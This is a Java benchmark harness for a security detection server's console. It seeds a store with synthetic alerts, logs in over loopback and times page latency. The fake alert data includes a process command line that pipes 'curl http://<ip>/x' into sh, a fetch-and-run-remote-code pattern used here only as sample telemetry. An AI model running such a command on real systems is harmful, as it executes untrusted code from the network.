package dev.vigil.bench;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.vigil.detect.signal.Entities;
import dev.vigil.detect.signal.Severity;
import dev.vigil.detect.signal.Signal;
import dev.vigil.detect.signal.SignalStatus;
import dev.vigil.server.ServerConfig;
import dev.vigil.server.VigilServer;
import dev.vigil.server.store.DetectionCheckpoint;
import dev.vigil.server.store.SignalQuery;
import dev.vigil.server.store.Store;
import dev.vigil.server.store.StoreConfig;
import dev.vigil.server.users.Role;

import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Console page latency with a loaded store: writes {@code N} signals (default 100,000: 8 rules,
 * 500 hosts, 60 images, 300 users, skewed severities, every status, agent samples with process
 * trees) into a fresh SQLite store, starts a real {@link VigilServer} on it, logs in over HTTP
 * and times each console page {@value #RUNS} times after {@value #WARMUP} warm-up requests,
 * sequentially on loopback. The time is the whole request as the client sees it (render and
 * transfer included), so it bounds the server-side time from above.
 *
 * <pre>{@code java -cp "vigil-bench/target/classes:vigil-bench/target/lib/*" dev.vigil.bench.ConsoleHarness [signals] [extra paths...]}</pre>
 */
public final class ConsoleHarness {

    static final int RUNS = 50, WARMUP = 10;
    static final ObjectMapper JSON = new ObjectMapper();
    static final String[] RULES = {"vigil-agent-alerts", "ssh-brute-force", "ssh-brute-force-then-success", "ssh-user-enumeration",
            "ssh-login-from-new-ip", "ssh-failed-login-spike", "k8s-exec-into-pod", "aws-root-console-login"};
    static final String[] TACTICS = {"TA0002", "TA0006", "TA0006", "TA0006", "TA0001", "TA0006", "TA0002", "TA0004"};

    public static void main(String[] args) throws Exception {
        int n = args.length > 0 ? Integer.parseInt(args[0]) : 100_000;
        List<String> extra = args.length > 1 ? Arrays.asList(args).subList(1, args.length) : List.of();
        // VIGIL_BENCH_DIR: a data directory to reuse (filled on the first run, read as is afterwards)
        String reuse = System.getenv("VIGIL_BENCH_DIR");
        Path dir = reuse != null ? Files.createDirectories(Path.of(reuse)) : Files.createTempDirectory("vigil-console-bench");
        boolean filled = Files.exists(dir.resolve(StoreConfig.SQLITE_FILE));
        long now = System.currentTimeMillis();
        long t0 = System.nanoTime();
        if (!filled) try (Store store = Store.open(StoreConfig.sqlite(dir))) {
            Random rnd = new Random(42);
            List<Signal> batch = new ArrayList<>(1000);
            for (int i = 0; i < n; i++) {
                batch.add(signal(i, rnd, now));
                if (batch.size() == 1000) {
                    store.signals().applyEngineUpdates(batch, DetectionCheckpoint.at(0));
                    batch.clear();
                }
            }
            if (!batch.isEmpty()) store.signals().applyEngineUpdates(batch, DetectionCheckpoint.at(0));
            // triage as people do it: a tenth under review, three tenths archived (one history entry each)
            for (int i = 0; i < n; i += 10) {
                store.signals().changeStatus(String.format("sig-%08d", i), SignalStatus.UNDER_REVIEW, null, "bench", null);
                for (int k = 1; k <= 3 && i + k < n; k++) {
                    store.signals().changeStatus(String.format("sig-%08d", i + k), SignalStatus.ARCHIVED,
                            dev.vigil.detect.signal.ArchiveReason.values()[k % dev.vigil.detect.signal.ArchiveReason.values().length], "bench", "done");
                }
            }
            store.users().create("bench", "bench-password-123", Role.ADMIN, "bench");
        }
        if (!filled) System.out.printf(java.util.Locale.ROOT, "# %,d signals written in %.1f s (SQLite, %s)%n", n, (System.nanoTime() - t0) / 1e9, dir);

        try (VigilServer server = VigilServer.start(ServerConfig.defaults(dir).withPort(0))) {
            String base = "http://127.0.0.1:" + server.port();
            HttpClient http = HttpClient.newBuilder().cookieHandler(new CookieManager()).followRedirects(HttpClient.Redirect.NEVER)
                    .connectTimeout(Duration.ofSeconds(5)).build();
            HttpResponse<String> login = http.send(HttpRequest.newBuilder(URI.create(base + "/login"))
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString("username=bench&password=bench-password-123")).build(), HttpResponse.BodyHandlers.ofString());
            if (login.statusCode() != 303) throw new IllegalStateException("login failed: " + login.statusCode());
            Signal some = server.store().signals().search(SignalQuery.builder().limit(1).build()).items().getFirst();
            String deep = server.store().signals().search(SignalQuery.builder().limit(1000).build()).nextCursor();

            Map<String, String> pages = new LinkedHashMap<>();
            pages.put("signals, default (7 days)", "/signals");
            pages.put("signals, all time", "/signals?range=all");
            pages.put("signals, severity:high open", "/signals?range=all&severity=high&status=open");
            pages.put("signals, one host", "/signals?range=all&host=host-17");
            pages.put("signals, text search", "/signals?range=all&q=" + URLEncoder.encode("brute", StandardCharsets.UTF_8));
            pages.put("signals, sorted by count", "/signals?range=all&sort=count");
            pages.put("signals, page after 1,000", "/signals?range=all&cursor=" + URLEncoder.encode(deep, StandardCharsets.UTF_8));
            pages.put("signals, live refresh (htmx)", "/signals?range=7d#results");
            pages.put("signal page with panel", "/signals/" + some.id());
            pages.put("signal panel (htmx)", "/signals/" + some.id() + "/panel");
            pages.put("suppressions", "/suppressions");
            for (String p : List.of("/dashboard", "/rules", "/events", "/entities/host/host-17")) pages.put(p, p);
            for (String p : extra) pages.put(p, p);

            System.out.printf("%n| page | status | bytes | p50 ms | p95 ms | max ms |%n|---|---|---|---|---|---|%n");
            for (var e : pages.entrySet()) {
                String path = e.getValue();
                boolean htmx = path.endsWith("#results");
                if (htmx) path = path.substring(0, path.length() - "#results".length());
                HttpRequest.Builder rb = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30));
                if (htmx) rb.header("HX-Request", "true").header("HX-Target", "results");
                HttpRequest req = rb.build();
                int status = 0;
                long bytes = 0;
                long[] ns = new long[RUNS];
                for (int i = 0; i < WARMUP + RUNS; i++) {
                    long s = System.nanoTime();
                    HttpResponse<byte[]> r = http.send(req, HttpResponse.BodyHandlers.ofByteArray());
                    long d = System.nanoTime() - s;
                    status = r.statusCode();
                    bytes = r.body().length;
                    if (i >= WARMUP) ns[i - WARMUP] = d;
                }
                Arrays.sort(ns);
                System.out.printf(java.util.Locale.ROOT, "| %s | %d | %,d | %.1f | %.1f | %.1f |%n", e.getKey(), status, bytes,
                        ns[RUNS / 2] / 1e6, ns[(int) (RUNS * 0.95)] / 1e6, ns[RUNS - 1] / 1e6);
            }
        }
    }

    static Signal signal(int i, Random rnd, long now) {
        int rule = rnd.nextInt(100) < 60 ? 0 : 1 + rnd.nextInt(RULES.length - 1);
        double r = rnd.nextDouble();
        Severity sev = r < 0.02 ? Severity.CRITICAL : r < 0.15 ? Severity.HIGH : r < 0.45 ? Severity.MEDIUM : r < 0.8 ? Severity.LOW : Severity.INFO;
        String host = "host-" + (int) Math.abs(rnd.nextGaussian() * 120) % 500;
        String image = "acme/svc-" + rnd.nextInt(60) + ":1." + rnd.nextInt(5);
        String user = "user-" + rnd.nextInt(300);
        String ip = "203.0." + rnd.nextInt(256) + "." + rnd.nextInt(256);
        // spread over 90 days, more recent ones denser
        long last = now - (long) (Math.pow(rnd.nextDouble(), 2) * 90 * 86_400_000L);
        long first = last - rnd.nextInt(3_600_000);
        Entities ents = new Entities(List.of(host), List.of("c" + Integer.toHexString(i)), List.of(image), List.of("svc-" + rnd.nextInt(40)),
                List.of(user), List.of(ip), List.of("/usr/bin/tool-" + rnd.nextInt(80)), Map.of());
        ObjectNode sample = JSON.createObjectNode();
        sample.put("id", "ev-" + i).put("time", java.time.Instant.ofEpochMilli(first).toString())
                .put("source", rule == 0 ? "vigil-agent" : "sshd").put("host", host).put("service", "").put("status", "info").put("message", "");
        sample.putArray("tags");
        ObjectNode p = sample.putObject("attributes").putObject("process");
        p.put("pid", 4000 + i % 1000).put("comm", "sh").putObject("file").put("path", "/bin/sh");
        p.putArray("argv").add("-c").add("curl http://" + ip + "/x | sh");
        ObjectNode tree = JSON.createObjectNode();
        ArrayNode nodes = tree.putArray("nodes");
        for (int k = 0; k < 4; k++) {
            nodes.addObject().put("pid", 100 + k).put("ppid", 99 + k).put("path", k == 3 ? "/bin/sh" : "/usr/bin/parent-" + k)
                    .put("comm", "p" + k).put("user", user).put("trigger", k == 3).putArray("argv").add("arg-" + k);
        }
        tree.put("trigger", 103);
        String title = switch (rule) {
            case 0 -> "A shell in a container downloaded and ran a script on " + host;
            case 1 -> "SSH brute force on " + host + " from " + ip;
            default -> RULES[rule] + " on " + host;
        };
        Signal s = new Signal(String.format("sig-%08d", i), RULES[rule], RULES[rule], title, "What the rule detects.", sev, SignalStatus.OPEN, null, null,
                Map.of("host", host), 1 + (long) Math.pow(rnd.nextDouble(), 6) * 400_000, first, last, last, last, TACTICS[rule], "T1059.004",
                List.of("source:" + sample.path("source").asText(), "tactic:" + TACTICS[rule]), "Check it.", ents, List.of(sample), tree);
        return s;
    }
}
